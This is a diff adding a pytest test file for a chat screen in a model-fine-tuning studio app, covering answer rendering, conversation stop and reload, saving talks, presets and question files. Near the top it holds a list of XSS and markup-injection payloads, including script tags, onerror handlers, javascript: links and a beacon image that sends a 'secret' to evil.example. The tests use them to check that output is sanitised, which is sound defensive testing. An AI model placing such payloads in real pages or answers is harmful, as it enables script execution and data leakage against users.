@@ -1,0 +1,430 @@
+"""The Chat screen without an engine: talks that grow, stop and come back; hostile answers; files of questions."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
+from types import SimpleNamespace
+
+import gradio as gr
+import pytest
+
+from studio.core.errors import StudioError
+from studio.core.facts import Verdict
+from studio.core.text import load_catalogue, text
+from studio.desk.prompt_set import Prompt, PromptSet
+from studio.desk.table import Table, TableRow, Totals
+from studio.engine.places import Place
+from studio.ui.answer_text import show_answer
+from studio.ui.chat_parts import PRESETS, draw
+from studio.ui.chat_view import progress_card, said_words, state_card, table_card, talk_card
+from studio.ui.tabs.chat import ChatTab
+
+SAMPLING = (8, 0.0, 1.0, 0, 1.0, 0)
+HOSTILE = [
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "![beacon](https://evil.example/x.png?q=secret)",
+    "[click](javascript:alert(1)) and [here](https://evil.example)",
+    '<a href="https://evil.example">x</a> https://evil.example',
+    "**<b onmouseover=alert(1)>x</b>**",
+    "`</code><img src=x>`",
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    "```\n<img src=x> never closed",
+    "- <svg onload=alert(1)>\n1. <iframe src=//evil.example>",
+    "# <style>@import '//evil.example'</style>",
+    '<think>"><img src=x onerror=alert(1)></think>done',
+    "<think><details open ontoggle=alert(1)>",
+    "&lt;img src=x&gt; &#60;script&#62;",
+    '" autofocus onfocus=alert(1) x="',
+    "a\u202egnp.exe <input onfocus=alert(1)>",
+    "</section></div><form action=//evil.example><button>ok",
+    "${alert(1)} {{7*7}} <%= 1 %>",
+]
+"""What a model may have been made to write, and what a data set, a name or a log may hold."""
+TAGS = {"p", "strong", "code", "pre", "ul", "ol", "li", "br", "details", "summary"}
+
+
+class Reader(HTMLParser):
+    """Collects the tags and attributes of a page, and the words that a person sees."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.words = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attributes: list) -> None:
+        self.tags.append((tag, dict(attributes)))
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_a_hostile_answer_is_words_alone(words):
+    read = Reader(show_answer(words, "thought <b>"))
+    assert {tag for tag, _ in read.tags} <= TAGS
+    for tag, attributes in read.tags:
+        assert set(attributes) <= {"class", "value", "tabindex"}, (tag, attributes)
+    for mark in ("javascript:", "evil.example", "onerror=alert(1)", "<script>", "<img src=x>"):
+        assert (mark in read.words) == (mark in words), "shown as it was written"
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_hostile_words_come_through_no_card(words, context):
+    say, turn = context.say, [{"role": "user", "content": words}, {"role": "assistant", "content": words}]
+    row = TableRow(1, words, words, {"base": words, "tuned": words}, {"base": False, "tuned": True},
+                   {"base": True, "tuned": True}, {"base": 1.0, "tuned": None})  # fmt: skip
+    totals = Totals(0, 1, 1, 1e9, float("inf"))
+    table = Table(words, "r", "", (row,), {"base": totals, "tuned": totals}, False, 2)
+    loaded = SimpleNamespace(name=words, run=words, checkpoint="", device=words, size_bytes=3)
+    talk = {"base": turn, "tuned": turn}
+    for html in (
+        talk_card(words, turn, say, empty=words),
+        talk_card(words, [], say, empty=words),
+        table_card(table, say),
+        progress_card(words, 1, 2, say, stop="stop"),
+        said_words(talk, ("base", "tuned"), say),
+        state_card(
+            run=words, sides="both", loaded=loaded, waits="", left_s=None, name=words, place=words, say=say
+        ),
+        state_card(run=words, sides="both", loaded=None, waits=words, left_s=3, name="", place="", say=say),
+    ):
+        for tag, attributes in Reader(html).tags:
+            assert tag not in (
+                "img",
+                "script",
+                "a",
+                "iframe",
+                "svg",
+                "form",
+                "style",
+                "input",
+                "b onmouseover",
+            )
+            assert not [
+                name for name in attributes if name.startswith("on") or name in ("href", "src", "autofocus")
+            ]
+
+
+@pytest.mark.parametrize(
+    ("words", "html"),
+    [
+        ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
+        ("**bold** and `a < b`", "<p><strong>bold</strong> and <code>a &lt; b</code></p>"),
+        ("- a\n- b\n2. c", '<ul><li>a</li><li>b</li></ul><ol><li value="2">c</li></ol>'),
+        ("```py\nx = 1\n**no**\n```\nend", '<pre tabindex="0"><code>x = 1\n**no**</code></pre><p>end</p>'),
+        ("`**no**`", "<p><code>**no**</code></p>"),
+        ("2 * 3 ** 4", "<p>2 * 3 ** 4</p>"),
+        ("<think>a\nb</think>yes", '<details class="thought"><summary>T</summary><p>a\nb</p></details><p>yes</p>'),
+        ("a</think>yes", '<details class="thought"><summary>T</summary><p>a</p></details><p>yes</p>'),
+        ("<think></think>yes", "<p>yes</p>"),
+        ("", ""),
+    ],
+)  # fmt: skip
+def test_an_answer_is_formatted_a_little(words, html):
+    assert show_answer(words, "T") == html
+
+
+def test_long_answers_are_formatted_quickly():
+    import time
+
+    started_s = time.perf_counter()
+    for words in (
+        "`" * 20_000,
+        "**a" * 7_000,
+        "<think>" * 4_000,
+        "```\n" * 5_000,
+        "1. " * 9_000,
+        "`a" * 10_000,
+    ):
+        show_answer(words, "T")
+    assert time.perf_counter() - started_s < 2
+
+
+# The tab ----------------------------------------------------------------------------------------------------
+
+
+@dataclass
+class FakeTalks:
+    """Answers like studio.desk.talks.Talks, each answer letter by letter."""
+
+    desk: object
+    kept: dict = field(default_factory=dict)
+    asked: list[dict] = field(default_factory=list)
+    test: object = None
+    memory: object = None
+    fails: bool = False
+
+    def choices(self, records) -> tuple:
+        places = {"done": (Place("", 12), Place("step-00000006", 6)), "half": (Place("step-00000003", 3),)}
+        places["broken"] = (Place("step-00000001", 1, text("chat.place.gone")),)
+        return tuple(
+            SimpleNamespace(record=one, places=places[one.run]) for one in records if one.run in places
+        )
+
+    def state(self) -> Verdict:
+        run = self.desk.active
+        return Verdict(ok=run is None, reason=text("chat.waits", run=run) if run else None)
+
+    def loaded(self) -> object:
+        return self.memory
+
+    def answer(self, messages, *, should_stop, **settings):
+        self.asked.append({"messages": messages} | settings)
+        if self.fails:
+            raise StudioError(text("chat.template"), text("chat.template"), text("chat.template.fix"))
+        words = f"{settings['side']}: {messages[-1]['content']}"
+        for end in range(1, len(words) + 1):
+            if should_stop():
+                return
+            yield SimpleNamespace(words=words[:end], tokens=end, first_s=0.1, tokens_per_s=10.0)
+
+    @property
+    def files(self) -> FakeTalks:
+        return self
+
+    def read(self, run: str) -> dict:
+        return self.kept.get(run, {"system": "", "base": [], "tuned": []})
+
+    def keep(self, run: str, talk: dict) -> None:
+        self.kept[run] = talk
+
+    def unload(self) -> int:
+        self.memory = None
+        return 2048
+
+    def refuse_while_training(self) -> None:
+        if self.desk.active:
+            raise StudioError(
+                text("desk.training", run="x"), text("desk.training.why"), text("desk.training.fix")
+            )
+
+    def start_test(self, prompts, **settings):
+        self.asked.append({"prompts": prompts} | settings)
+
+
+@pytest.fixture
+def chat(context, monkeypatch):
+    """The tab over a desk with a finished, a stopped and a broken run."""
+    monkeypatch.setattr("studio.ui.tabs.chat.SHOW_EVERY_S", 0)
+    context.desk.log = {"broken": [], "half": [], "done": []}
+    context.desk.talks = FakeTalks(context.desk)
+    with gr.Blocks(analytics_enabled=False), gr.Tab("chat") as tab:
+        made = ChatTab(context)
+        made.bind(tab)
+    return made
+
+
+def talk_of(run: str | None = "done", **sides) -> dict:
+    """A page's talk."""
+    return {"key": "", "run": run, "base": [], "tuned": []} | sides
+
+
+def test_entering_takes_the_run_of_the_address_then_the_newest(chat):
+    runs, places, *_ = chat.enter(None, None, talk_of(None), "")
+    assert runs["value"] == "done" and [value for _, value in places["choices"]] == ["", "step-00000006"]
+    assert chat.enter(None, None, talk_of(None), "half")[0]["value"] == "half"
+    assert chat.enter("done", "", talk_of("done"), "half")[0]["value"] == "done", (
+        "what was chosen since stays"
+    )
+    assert chat.enter("done", "", talk_of("done"), "!half")[0]["value"] == "half", (
+        "a card sent the person here"
+    )
+    runs, places, *_ = chat.enter(None, None, talk_of(None), "../nowhere")
+    assert runs["value"] == "done" and runs["choices"][-1][1] == ""
+    broken = chat.pick_run("broken")[0]
+    assert broken["value"] is None and "no longer there" in broken["choices"][0][0]
+
+
+def test_the_last_talk_comes_back_after_a_reload(chat):
+    list(chat.ask("hi", "done", "", "both", talk_of(None), "Be brief.", *SAMPLING))
+    _, _, base, tuned, talk, system, _ = chat.enter(None, None, talk_of(None), "")
+    assert "base: hi" in base and "tuned: hi" in tuned and system == "Be brief." and talk["run"] == "done"
+    shown = chat.enter("done", "", talk, "")
+    assert shown[2] == gr.skip(), "a page that has its talk keeps it"
+
+
+def test_both_sides_answer_the_same_with_the_same_settings(context, chat):
+    shown = list(
+        chat.ask("hi <b>", "done", "step-00000006", "both", talk_of(), " Be brief. ", 8, 0.7, 0.9, 5, 1.1, 3)
+    )
+    assert len(shown) > 10
+    assert shown[0][0] == "" and shown[0][7]["interactive"] and not shown[-1][7]["interactive"]
+    talk = shown[-1][3]
+    assert [turn["content"] for turn in talk["base"]] == ["hi <b>", "base: hi <b>"]
+    assert [turn["content"] for turn in talk["tuned"]] == ["hi <b>", "tuned: hi <b>"]
+    assert "<b>" not in shown[-1][2] and "10.0 tokens/s" in shown[-1][2] and "seed 3" in shown[-1][2]
+    assert "aria-live" in shown[-1][4] and all(one[4] == gr.skip() for one in shown[:-1]), (
+        "told once, at the end"
+    )
+    first, second = context.desk.talks.asked
+    assert {**first, "side": ""} == {**second, "side": ""}
+    assert first["checkpoint"] == "step-00000006" and (first["seed"], first["top_k"]) == (3, 5)
+    assert first["messages"] == [{"role": "user", "content": "hi <b>"}], "nothing but role and words"
+
+
+def test_one_side_alone_and_the_base_model_alone(context, chat):
+    talk = list(chat.ask("hi", "done", "", "tuned", talk_of(), "", *SAMPLING))[-1][3]
+    assert talk["base"] == [] and len(talk["tuned"]) == 2
+    talk = list(chat.ask("hi", "", "", "both", talk_of(""), "", *SAMPLING))[-1][3]
+    assert talk["tuned"] == [] and len(talk["base"]) == 2
+    assert (
+        context.desk.talks.asked[-1]["recipe"] == context.draft()
+        and context.desk.talks.asked[0]["recipe"] is None
+    )
+    assert list(chat.ask("  ", "done", "", "both", talk_of(), "", *SAMPLING)) == [[gr.skip()] * 8]
+    with pytest.raises(StudioError):
+        next(chat.ask("hi", None, None, "both", talk_of(None), "", *SAMPLING))
+
+
+def test_stop_ends_this_pages_answer_and_no_others(chat):
+    mine = chat.ask("a long question", "done", "", "both", talk_of(), "", *SAMPLING)
+    theirs = chat.ask("another question", "done", "", "both", talk_of(), "", *SAMPLING)
+    shown = [next(mine) for _ in range(3)]
+    others = [next(theirs) for _ in range(3)]
+    assert shown[-1][3]["key"] != others[-1][3]["key"]
+    chat.end(shown[-1][3])
+    rest, others = list(mine), list(theirs)
+    talk = rest[-1][3]
+    assert talk["base"][-1]["stopped"] and talk["base"][-1]["content"] == "ba"
+    assert talk["tuned"] == [], "a side that was not reached has no question without an answer"
+    assert others[-1][3]["tuned"][-1]["content"] == "tuned: another question"
+    chat.end(talk)
+    assert not chat._stops
+
+
+def test_a_page_that_is_closed_keeps_what_was_written(context, chat):
+    answers = chat.ask("hi", "done", "", "both", talk_of(), "", *SAMPLING)
+    for _ in range(4):
+        next(answers)
+    answers.close()
+    assert context.desk.talks.kept["done"]["base"][-1]["content"] == "bas" and not chat._stops
+
+
+def test_a_refusal_gives_the_question_back(context, chat):
+    context.desk.talks.fails = True
+    before = talk_of(base=[{"role": "user", "content": "old"}])
+    answers = chat.ask("hi", "done", "", "both", before, "", *SAMPLING)
+    shown = []
+    with pytest.raises(StudioError):
+        for one in answers:
+            shown.append(one)
+    assert shown[-1][0] == "hi" and shown[-1][3]["base"] == before["base"] and shown[-1][6]["interactive"]
+
+
+def test_ask_again_edit_and_new_talk(context, chat):
+    talk = list(chat.ask("hi", "done", "", "both", talk_of(), "", 8, 0.7, 1, 0, 1, 3))[-1][3]
+    talk = list(chat.ask_again("half typed", "done", "", "both", talk, "", 8, 0.7, 1, 0, 1, 3))[-1][3]
+    assert [turn.get("seed") for turn in talk["tuned"]] == [None, 4], "another seed, or it would be the same"
+    assert context.desk.talks.asked[-1]["messages"] == [{"role": "user", "content": "hi"}]
+    exact = list(chat.ask_again("", "done", "", "tuned", talk, "", *SAMPLING))[-1][3]
+    assert "seed" not in exact["tuned"][-1] and exact["base"] == talk["base"]
+    words, _, _, shorter = chat.edit_last("", talk)
+    assert words == "hi" and shorter["base"] == shorter["tuned"] == []
+    assert chat.edit_last("typed", shorter) == [gr.skip()] * 4
+    assert list(chat.ask_again("", "done", "", "both", shorter, "", *SAMPLING)) == [[gr.skip()] * 8]
+    assert chat.forget("done", talk)[2]["base"] == [] and context.desk.talks.kept["done"]["base"] == []
+
+
+def test_a_talk_is_saved_as_a_data_set_has_it(chat):
+    talk = list(chat.ask('hi "ü"', "done", "", "both", talk_of(), "", *SAMPLING))[-1][3]
+    file = json.loads(chat.write_talk(talk, "Be brief."))
+    lines = [json.loads(line) for line in file["text"].splitlines()]
+    assert file["name"] == "talk-done.jsonl" and len(lines) == 2
+    assert [turn["role"] for turn in lines[0]["messages"]] == ["system", "user", "assistant"]
+    assert lines[1]["messages"][-1] == {"role": "assistant", "content": 'tuned: hi "ü"'}
+    with pytest.raises(StudioError):
+        chat.write_talk(talk_of(), "")
+
+
+def test_why_an_answer_must_wait_and_what_is_in_memory(context, chat):
+    assert "the first question loads" in chat.show_state("done", "", "both")
+    context.desk.talks.memory = SimpleNamespace(
+        name="tiny", run="done", checkpoint="step-00000006", device="cpu", size_bytes=3 * 2**20
+    )
+    card = chat.show_state("done", "", "both")
+    assert "step 6" in card and "3.0 MiB" in card and 'data-do="unload"' in card
+    assert "the first question" in chat.hear({"do": "unload", "value": "", "form": {}}, "done", "", "both")
+    context.desk.active = "done"
+    card = chat.show_state("done", "", "both")
+    assert "A run is training" in card and 'data-go="training"' in card and "unload" not in card
+
+
+def test_presets_set_the_fields_and_fields_stay_within_bounds(chat):
+    assert chat.set_preset("exact") == [0.0, 1.0, 0, 1.0] == list(PRESETS["exact"])
+    assert chat.set_preset("own") == chat.set_preset("nonsense") == [gr.skip()] * 4
+    assert draw(None, None, None, None, None, None) == draw(256, 0, 1, 0, 1, 0)
+    wild = draw(10**9, 99, -3, -1, float("nan"), 1e300)
+    assert wild == draw(32768, 2, 0.05, 0, 1, 2**31 - 1) and isinstance(wild["seed"], int)
+
+
+def test_an_answer_has_its_words_in_chinese():
+    words = load_catalogue("zh-CN")
+    turn = {"role": "assistant", "content": "a", "tokens": 2, "first_s": 0.1, "stopped": True, "seed": 4}
+    card = talk_card("x", [turn], lambda id, **values: words.say(text(id, **values)), empty="")
+    assert "复制" in card and "种子 4" in card and "Copy" not in card and "stopped" not in card
+
+
+# Files of questions -----------------------------------------------------------------------------------------
+
+
+def make_job(**changes) -> SimpleNamespace:
+    """A job that ended with a table."""
+    row = TableRow(1, "q", "a", {"base": "=1+1", "tuned": "a"}, {"base": False, "tuned": True},
+                   {"base": False, "tuned": True}, {"base": 2.0, "tuned": 0.5})  # fmt: skip
+    totals = {"base": Totals(0, 0, 1, 2.0, 7.389), "tuned": Totals(1, 1, 1, 0.5, 1.6487)}
+    table = Table("q.jsonl", "done", "", (row,), totals, True, 1)
+    job = SimpleNamespace(
+        ended=True, error=None, phase=None, done=0, total=0, result=lambda: table, stopped=False
+    )
+    job.__dict__.update(changes)
+    return job
+
+
+def test_a_table_shows_totals_and_marks_in_words(context, chat):
+    context.desk.talks.test = make_job()
+    ((card, save),) = chat.questions.watch()
+    assert save["visible"] and "100% (1 / 1)" in card and "1.65" in card and "7.39" in card
+    assert "exact" in card and "differs" in card and "1 rows left out" in card
+    file = json.loads(chat.questions.write())
+    assert file["name"] == "q-done.csv" and "'=1+1" in file["text"]
+
+
+def test_a_test_that_failed_or_was_never_begun(context, chat):
+    assert list(chat.questions.watch()) == [[gr.skip(), gr.skip()]]
+    with pytest.raises(StudioError):
+        chat.questions.write()
+    context.desk.talks.test = make_job(error=RuntimeError("<b>boom"))
+    ((card, save),) = chat.questions.watch()
+    assert "&lt;b&gt;boom" in card and not save["visible"]
+    stopped = []
+    context.desk.talks.test = make_job(ended=False, stop=lambda: stopped.append(1))
+    chat.questions.hear({"do": "stop-test"})
+    chat.questions.hear({"do": "stop"})
+    assert stopped == [1]
+
+
+def test_a_file_is_read_before_the_model_is_loaded(context, chat, tmp_path):
+    with pytest.raises(StudioError):
+        next(chat.questions.begin(None, 64, "done", "", "both", ""))
+    path = tmp_path / "q.txt"
+    path.write_text("one\ntwo\n", encoding="utf-8")
+    context.desk.talks.test = make_job()
+    list(chat.questions.begin(str(path), 64, "done", "step-00000006", "tuned", "Be brief."))
+    asked = context.desk.talks.asked[-1]
+    assert asked["prompts"] == PromptSet(
+        "q.txt", tuple(Prompt(({"role": "user", "content": words},), None) for words in ("one", "two")), 0
+    )
+    assert (asked["sides"], asked["checkpoint"], asked["system"]) == (
+        ("tuned",),
+        "step-00000006",
+        "Be brief.",
+    )
+    list(chat.questions.begin_demo(None, 64, "done", "", "both", ""))
+    assert len(context.desk.talks.asked[-1]["prompts"].prompts) == 120
+    context.desk.active = "done"
+    with pytest.raises(StudioError):
+        next(chat.questions.begin(str(path), 64, "done", "", "both", ""))
